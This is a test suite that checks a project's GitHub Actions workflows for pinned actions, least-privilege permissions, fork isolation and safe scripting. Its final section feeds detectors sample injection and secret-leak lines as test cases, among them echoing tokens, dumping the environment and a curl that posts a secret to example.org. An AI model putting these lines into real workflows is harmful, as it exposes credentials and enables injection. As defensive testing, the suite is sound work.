// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions of GitHub's workflows
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { repositoryEnvironments, repositoryVariables } from '../runtime/plan/bootstrap.ts'
import { commandOptions, parseCommand } from './ci/commands.ts'
import { hostnameOf } from './ci/stack-lock.ts'
import {
  npxCommands,
  readWorkflows,
  root,
  secretLeaks,
  untrustedExpressions,
  workflowFolder,
} from './ci/testing/workflows.ts'

const workflows = readWorkflows()
const byName = Object.fromEntries(workflows.map((file) => [file.name, file]))
const workflowOf = (name: string) => {
  const file = byName[`${name}.yml`]
  if (!file) throw new RangeError(`there is no ${name}.yml`)
  return file.workflow
}
const jobs = workflows.flatMap(({ name, workflow }) =>
  Object.entries(workflow.jobs).map(([id, job]) => ({ title: `${name} ${id}`, file: name, id, job })),
)
const steps = jobs.flatMap(({ title, file, id, job }) =>
  job.steps.map((step, i) => ({ title: `${title} step ${i + 1}`, file, id, job, step })),
)
const scripts = steps.flatMap((at) => (at.step.run === undefined ? [] : [{ ...at, script: at.step.run }]))

/** The commits of reference/actions.md that were read from the actions' own tags. */
const pinned: Readonly<Record<string, readonly [version: string, commit: string]>> = {
  'actions/checkout': ['v7.0.1', '3d3c42e5aac5ba805825da76410c181273ba90b1'],
  'actions/setup-node': ['v7.0.0', '820762786026740c76f36085b0efc47a31fe5020'],
  'aws-actions/amazon-ecr-login': ['v2.1.7', '03f1aad4c6c7ffd436567f42f9384779290529bd'],
  'aws-actions/configure-aws-credentials': ['v6.2.3', 'e6de054238d6b7531b4efff3b6587d9aade6a06c'],
  'docker/build-push-action': ['v7.3.0', '53b7df96c91f9c12dcc8a07bcb9ccacbed38856a'],
  'docker/setup-buildx-action': ['v4.3.0', '37fe631027851001ddb9b187196cc803df7f5f0e'],
  'pulumi/actions': ['v7.0.0', '8e5e406f4007fca908480587cb9893c07090f58d'],
}

describe('every workflow', () => {
  it('is one of four', () => {
    expect(workflows.map(({ name }) => name)).toEqual([
      'check.yml',
      'deploy.yml',
      'destroy.yml',
      'preview.yml',
    ])
  })

  it.each(workflows.map(({ name }) => name))('%s passes action-validator', (name) => {
    const validator = path.join(root, 'node_modules/.bin/action-validator')
    expect(() =>
      execFileSync(validator, [path.join(workflowFolder, name)], { cwd: root, stdio: 'pipe' }),
    ).not.toThrow()
  })

  it('is refused by action-validator when it is wrong', () => {
    const validator = path.join(root, 'node_modules/.bin/action-validator')
    const wrong = path.join(root, 'infra/ci/testing/wrong-workflow.yml')
    expect(() => execFileSync(validator, [wrong], { cwd: root, stdio: 'pipe' })).toThrow()
  })

  it('grants nothing at the top, has a concurrency group, and runs strict bash', () => {
    for (const { name, workflow } of workflows) {
      expect(workflow.permissions, name).toEqual({})
      expect(workflow.concurrency?.group, name).toMatch(/\$\{\{/)
      expect(workflow.defaults?.run?.shell, name).toMatch(/^bash -euo pipefail \{0\}$|^undefined$/)
    }
    for (const { title, file, step } of scripts) {
      const shell = step.shell ?? byName[file]?.workflow.defaults?.run?.shell
      expect(shell, title).toBe('bash -euo pipefail {0}')
    }
  })

  it('is started by a branch or a person, and never gives a fork’s code the rights of the repository', () => {
    for (const { name, workflow } of workflows)
      for (const event of ['pull_request_target', 'workflow_run', 'issue_comment'])
        expect(Object.keys(workflow.on), name).not.toContain(event)
  })

  it('uses no secret at all: roles are taken with tokens of the run', () => {
    for (const { name, text } of workflows) {
      expect(text, name).not.toMatch(/\bsecrets\b/)
      expect(text, name).not.toMatch(/aws-access-key|aws-secret|AKIA/i)
    }
  })
})

describe('every job', () => {
  it.each(jobs)('$title has an end, rights of its own and a named kind of machine', ({ job }) => {
    expect(job['timeout-minutes']).toBeGreaterThan(0)
    expect(job['timeout-minutes']).toBeLessThanOrEqual(150)
    expect(job.permissions).toMatchObject({ contents: 'read' })
    const allowed = ['actions', 'contents', 'id-token', 'pull-requests']
    expect(Object.keys(job.permissions ?? {}).filter((name) => !allowed.includes(name))).toEqual([])
    expect(job['runs-on']).toMatch(/^ubuntu-24\.04$|^\$\{\{ needs\.target\.outputs\.runner \}\}$/)
  })

  it.each(jobs)('$title asks for a token of AWS only where it takes a role', ({ job }) => {
    const takesRole = job.steps.some(({ uses }) => uses?.startsWith('aws-actions/configure-aws-credentials@'))
    expect(job.permissions?.['id-token']).toBe(takesRole ? 'write' : undefined)
  })

  it.each(jobs)('$title gives each step that has one a time that fits its own', ({ job }) => {
    for (const step of job.steps)
      expect(step['timeout-minutes'] ?? 0).toBeLessThan(job['timeout-minutes'] ?? 0)
  })

  it('writes nothing to GitHub but the comment on a pull request', () => {
    const writing = jobs.filter(({ job }) => job.permissions?.['pull-requests'] === 'write')
    expect(writing.map(({ title }) => title)).toEqual(['preview.yml preview'])
  })
})

describe('every step', () => {
  const used = steps.flatMap((at) => (at.step.uses === undefined ? [] : [{ ...at, uses: at.step.uses }]))

  it.each(used)('$title: $uses is pinned to the commit of a release', ({ uses, file }) => {
    const [action = '', commit] = uses.split('@')
    expect(commit).toMatch(/^[0-9a-f]{40}$/)
    const [version, expected] = pinned[action] ?? []
    expect(commit).toBe(expected)
    const lines = byName[file]?.text.split('\n').filter((line) => line.includes(uses)) ?? []
    expect(lines.length).toBeGreaterThan(0)
    for (const line of lines) expect(line).toMatch(new RegExp(`# ${version}(?:,|$)`))
  })

  it('that checks out leaves no token behind', () => {
    const checkouts = used.filter(({ uses }) => uses.startsWith('actions/checkout@'))
    expect(checkouts.length).toBe(jobs.length)
    for (const { title, step } of checkouts) expect(step.with?.['persist-credentials'], title).toBe(false)
  })

  it('that takes a role takes one of bootstrap’s, in the registry’s region', () => {
    const names = new Set<string>(repositoryVariables.map(({ name }) => name))
    for (const { name, text } of workflows)
      for (const [, variable] of text.matchAll(/\bvars\.(\w+)/g)) expect(names, name).toContain(variable)
    const taken = used.filter(({ uses }) => uses.startsWith('aws-actions/configure-aws-credentials@'))
    expect(taken.map(({ file, id }) => `${file} ${id}`)).toEqual([
      'deploy.yml deploy',
      'destroy.yml doomed',
      'destroy.yml destroy',
      'preview.yml preview',
    ])
    // A stack takes longer than the hour that roles are lent for unless asked: bootstrap's may be lent for two.
    const lasting = taken.filter(({ step }) => step.with?.['role-duration-seconds'] === 7200)
    expect(lasting.map(({ file, id }) => `${file} ${id}`)).toEqual([
      'deploy.yml deploy',
      'destroy.yml destroy',
    ])
    for (const { step } of taken) {
      expect(step.with?.['aws-region']).toBe('${{ vars.AWS_REGION }}')
      expect(step.with).not.toHaveProperty('aws-access-key-id')
    }
  })

  it('names environments that bootstrap trusts', () => {
    const environments = jobs.flatMap(({ job }) => (job.environment === undefined ? [] : [job.environment]))
    for (const name of environments)
      expect([...Object.values(repositoryEnvironments), '${{ needs.target.outputs.kind }}']).toContain(name)
  })
})

describe('every script of a step', () => {
  it.each(scripts)('$title has nothing written into it', ({ script }) => {
    expect(untrustedExpressions(script)).toEqual([])
    // Nor anything else: what a script needs comes by its environment.
    expect(script).not.toContain('${{')
  })

  it.each(scripts)('$title shows no secret', ({ script }) => {
    expect(secretLeaks(script)).toEqual([])
  })

  it.each(scripts)('$title is bash, and quotes what it is given', ({ script }) => {
    expect(() =>
      execFileSync('bash', ['-n'], { input: script, stdio: ['pipe', 'pipe', 'pipe'] }),
    ).not.toThrow()
    const bare = script.replace(/"(?:[^"\\]|\\.)*"/g, '""').replace(/'[^']*'/g, "''")
    expect(bare).not.toMatch(/\$\{?[A-Za-z_]/)
  })

  it('calls only what is there, with options that it takes', async () => {
    const commands = scripts.flatMap(({ title, script }) =>
      npxCommands(script).map((command) => ({ title, command })),
    )
    const programs = new Set(commands.map(({ command }) => command.slice(0, 1).join(' ')))
    expect([...programs].sort()).toEqual(['sluice', 'tsx'])
    const own = new Set<string>()
    for (const { title, command } of commands) {
      const [program, ...args] = command
      if (program === 'tsx') {
        const [file = '', ...rest] = args
        expect(existsSync(path.join(root, file)), `${title}: ${file}`).toBe(true)
        expect(file).toBe('infra/ci/main.ts')
        own.add(parseCommand(rest).name)
      } else {
        expect(await sluiceTakes(args), `${title}: ${command.join(' ')}`).toBe('')
      }
    }
    expect([...own].sort()).toEqual(Object.keys(commandOptions).sort())
    expect(existsSync(path.join(root, '.ci/run'))).toBe(true)
  })

  it('is found out when a command is given what it does not take', async () => {
    expect(await sluiceTakes(['diff', '--bass', 'main'])).toContain('unknown option')
    expect(() => parseCommand(['deploy', '--brunch', 'main'])).toThrow(/^deploy: /)
    expect(() => parseCommand(['deploy'])).toThrow('deploy: --branch is missing or empty')
    expect(() => parseCommand(['reap'])).toThrow('"reap" is no command; there are target, ')
  })
})

/** What the command line says against a command; `--help` is answered once all before it has been read. */
async function sluiceTakes(args: readonly string[]): Promise<string> {
  try {
    execFileSync(process.execPath, ['runtime/cli/bin/sluice.mjs', ...args, '--help'], {
      cwd: root,
      stdio: 'pipe',
    })
    // Help is printed without a look at the options: each has to stand in it.
    const help = execFileSync(process.execPath, ['runtime/cli/bin/sluice.mjs', args[0] as string, '--help'], {
      cwd: root,
      encoding: 'utf8',
    })
    const unknown = args.filter(
      (arg) => arg.startsWith('--') && !help.includes(`${arg} `) && !help.includes(`${arg}\n`),
    )
    return unknown.length === 0 ? '' : `unknown option ${unknown.join(' ')}`
  } catch (error) {
    return String((error as { readonly stderr?: Buffer }).stderr)
  }
}

describe('check.yml', () => {
  const { on, jobs: all } = workflowOf('check')

  it('runs what developers run, for every push and pull request, on each Node there is', () => {
    expect(on).toEqual({ push: { branches: ['**'] }, pull_request: null })
    expect(all.check?.strategy?.matrix).toEqual({ node: [20, 22, 24] })
    expect(all.check?.strategy?.['fail-fast']).toBe(false)
    expect(all.check?.steps.at(-1)?.run).toBe('./.ci/run')
    expect(all.check?.permissions).toEqual({ contents: 'read' })
    const { engines } = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8'))
    expect(engines.node).toBe('>=20.19')
  })
})

describe('preview.yml', () => {
  const { on, jobs: all } = workflowOf('preview')

  it('looks at pull requests with the role that can only read, and never deploys', () => {
    expect(on).toEqual({ pull_request: { types: ['opened', 'reopened', 'synchronize'] } })
    const text = JSON.stringify(all)
    expect(text).toContain('vars.SLUICE_PREVIEW_ROLE')
    expect(text).not.toMatch(/SLUICE_DEPLOY|main\.ts (?:deploy|destroy)|build-push/)
  })

  it('gives a fork’s code no credentials, and says so', () => {
    expect(all.preview?.if).toBe('github.event.pull_request.head.repo.full_name == github.repository')
    expect(all.fork?.if).toBe('github.event.pull_request.head.repo.full_name != github.repository')
    expect(all.fork?.permissions).toEqual({ contents: 'read' })
    expect(all.fork?.steps.at(-1)?.run).toContain('a pull request from a fork gets no credentials')
  })

  it('compares with the commit that the pull request is merged into, which has to be fetched', () => {
    for (const job of Object.values(all)) {
      expect(job.steps[0]?.with?.['fetch-depth']).toBe(2)
      expect(job.steps.map(({ run }) => run ?? '').join()).toContain('sluice diff --base HEAD^1 ')
    }
  })

  it('hands the token to the step alone that writes the comment', () => {
    const holders = all.preview?.steps.filter(({ env }) => env && 'GITHUB_TOKEN' in env) ?? []
    expect(holders.map(({ name }) => name)).toEqual(['Comment'])
  })
})

describe('deploy.yml', () => {
  const { on, concurrency, jobs: all } = workflowOf('deploy')

  it('deploys pushes to every branch, whatever file they change', () => {
    expect(on).toEqual({ push: { branches: ['**'] }, workflow_dispatch: null })
    expect(all.deploy?.if).toContain("needs.target.outputs.deploys == 'true'")
  })

  it('lets one deployment of a stack follow the other, and cancels none', () => {
    expect(concurrency).toEqual({ group: 'deploy-${{ github.ref }}', 'cancel-in-progress': false })
    expect(all.deploy?.concurrency).toEqual({
      group: 'stack-${{ needs.target.outputs.stack }}',
      'cancel-in-progress': false,
    })
  })

  it('takes prod’s role and environment for prod alone', () => {
    expect(all.deploy?.environment).toBe('${{ needs.target.outputs.kind }}')
    const roles = all.deploy?.steps.flatMap(({ with: inputs }) => inputs?.['role-to-assume'] ?? [])
    expect(roles).toEqual([
      "${{ needs.target.outputs.kind == 'prod' && vars.SLUICE_DEPLOY_PROD_ROLE || vars.SLUICE_DEPLOY_PREVIEW_ROLE }}",
    ])
  })

  it('checks, builds, deploys and tries, in this order', () => {
    const names = [...(all.target?.steps ?? []), ...(all.deploy?.steps ?? [])].flatMap(
      ({ name }) => name ?? [],
    )
    expect(names).toEqual([
      'Which stack',
      'Check the registry',
      'Nothing is set up',
      'Build and push the image of jobs',
      'Name this machine for locks',
      'Deploy what all branches share',
      'Deploy the stack',
      'Try the stack',
    ])
    expect(all.deploy?.steps.find(({ name }) => name === 'Deploy what all branches share')?.if).toBe(
      "needs.target.outputs.kind == 'prod'",
    )
  })

  it('names the image by the digest of what was pushed, for the architecture of the stack', () => {
    const build = all.deploy?.steps.find(({ id }) => id === 'image')
    expect(build?.with).toMatchObject({ push: true, platforms: '${{ needs.target.outputs.platform }}' })
    const repository = '${{ env.SLUICE_IMAGE_REPOSITORY }}'
    const cache = 'type=gha,scope=jobs-${{ needs.target.outputs.kind }}'
    expect(build?.with).toMatchObject({ 'cache-from': cache, 'cache-to': `${cache},mode=max` })
    // What the repository's rules for old images know it by; never the same twice, as tags do not move.
    expect(build?.with?.tags).toBe(
      `${repository}:${'${{ needs.target.outputs.kind }}-${{ github.run_id }}-${{ github.run_attempt }}'}`,
    )
    expect(all.deploy?.env?.SLUICE_IMAGE_REPOSITORY).toBe(
      "${{ needs.target.outputs.kind == 'prod' && vars.SLUICE_IMAGE_REPOSITORY || vars.SLUICE_PREVIEW_IMAGE_REPOSITORY }}",
    )
    const deploy = all.deploy?.steps.find(({ name }) => name === 'Deploy the stack')
    expect(deploy?.env?.IMAGE_DIGEST).toBe('${{ steps.image.outputs.digest }}')
    const dockerfile = readFileSync(path.join(root, 'Dockerfile'), 'utf8')
    expect(dockerfile).toMatch(/^ARG STACK/m)
  })
})

describe('destroy.yml', () => {
  const { on, concurrency, jobs: all } = workflowOf('destroy')

  it('runs when a branch is deleted, when a pull request is closed, and every night', () => {
    expect(Object.keys(on).sort()).toEqual(['delete', 'pull_request', 'schedule', 'workflow_dispatch'])
    expect(on.pull_request).toEqual({ types: ['closed'] })
    expect(on.schedule).toEqual([{ cron: expect.stringMatching(/^\d+ \d+ \* \* \*$/) }])
  })

  it('cannot reach prod: neither its role nor its environment is named', () => {
    const text = byName['destroy.yml']?.text ?? ''
    expect(text).not.toMatch(/SLUICE_DEPLOY_PROD_ROLE|SLUICE_PROD|SECRETS_PROVIDER_PROD|environment: prod/)
    for (const job of Object.values(all)) expect(job.environment).toBe('preview')
    expect(text).not.toMatch(/pulumi (?:destroy|stack rm)/)
  })

  it('runs the code of the default branch, and leaves forks and tags alone', () => {
    for (const job of Object.values(all))
      expect(job.steps[0]?.with?.ref).toBe('${{ github.event.repository.default_branch }}')
    expect(all.doomed?.if).toContain("github.event.ref_type == 'branch'")
    expect(all.doomed?.if).toContain('github.event.pull_request.head.repo.full_name == github.repository')
  })

  it('waits for what a deployment of the same stack is doing, and cancels none', () => {
    expect(concurrency?.['cancel-in-progress']).toBe(false)
    expect(all.destroy?.concurrency).toEqual({
      group: 'stack-${{ matrix.stack }}',
      'cancel-in-progress': false,
    })
    expect(all.destroy?.strategy?.['fail-fast']).toBe(false)
  })
})

describe('locks', () => {
  it('carry the run, in every job that locks a stack', () => {
    const locking = jobs.filter(({ job }) =>
      job.steps.some(({ run }) => /main\.ts (?:deploy|deploy-base|destroy) /.test(run ?? '')),
    )
    expect(locking.map(({ title }) => title)).toEqual(['deploy.yml deploy', 'destroy.yml destroy'])
    for (const { job } of locking) {
      const index = job.steps.findIndex(({ name }) => name === 'Name this machine for locks')
      const first = job.steps.findIndex(({ run }) => /main\.ts/.test(run ?? ''))
      expect(index).toBeGreaterThan(-1)
      expect(index).toBeLessThan(first)
      const named = execFileSync(
        'bash',
        ['-c', `${job.steps[index]?.run?.split('\n')[0]}; echo -n "$name"`],
        {
          env: { ...process.env, GITHUB_RUN_ID: '4711', GITHUB_RUN_ATTEMPT: '2' },
          encoding: 'utf8',
        },
      )
      expect(named).toBe(hostnameOf({ id: 4711, attempt: 2 }))
      expect(job.permissions?.actions).toBe('read')
    }
  })
})

describe('what reads the scripts', () => {
  it.each([
    'echo "${{ github.event.pull_request.title }}"',
    'git switch ${{ github.head_ref }}',
    "echo ${{ github['event']['issue']['body'] }}",
    'echo ${{github.event.comment.body}}',
    'cd "${{ inputs.folder }}"',
    'x=${{ steps.title.outputs.value }}',
    'curl -H "authorization: ${{ secrets.TOKEN }}"',
    'echo ${{ github.token }}',
    'echo ${{\n  toJSON(github)\n}}',
    'deploy ${{ github.ref_name }}',
  ])('sees what is written into %j', (script) => {
    expect(untrustedExpressions(script)).toHaveLength(1)
  })

  it.each(['echo "$TITLE"', 'npm ci', 'echo ${{ runner.os }}', 'echo ${{ vars.AWS_REGION }}'])(
    'lets %j be',
    (script) => {
      expect(untrustedExpressions(script)).toEqual([])
    },
  )

  it.each([
    'echo "$GITHUB_TOKEN"',
    'echo ok && printf %s "${AWS_SECRET_ACCESS_KEY}" > key',
    'set -x',
    'set -eux',
    'env',
    'printenv | sort',
    'env | grep AWS',
    'bash -x deploy.sh',
    'curl -d "${{ secrets.TOKEN }}" example.org',
    'if true; then echo $PULUMI_CONFIG_PASSPHRASE; fi',
  ])('sees the secret in %j', (script) => {
    expect(secretLeaks(script)).toHaveLength(1)
  })

  it.each(['echo "$GITHUB_RUN_ID"', 'set -euo pipefail', 'env FOO=1 npm ci', 'npm ci'])(
    'sees none in %j',
    (script) => {
      expect(secretLeaks(script)).toEqual([])
    },
  )
})
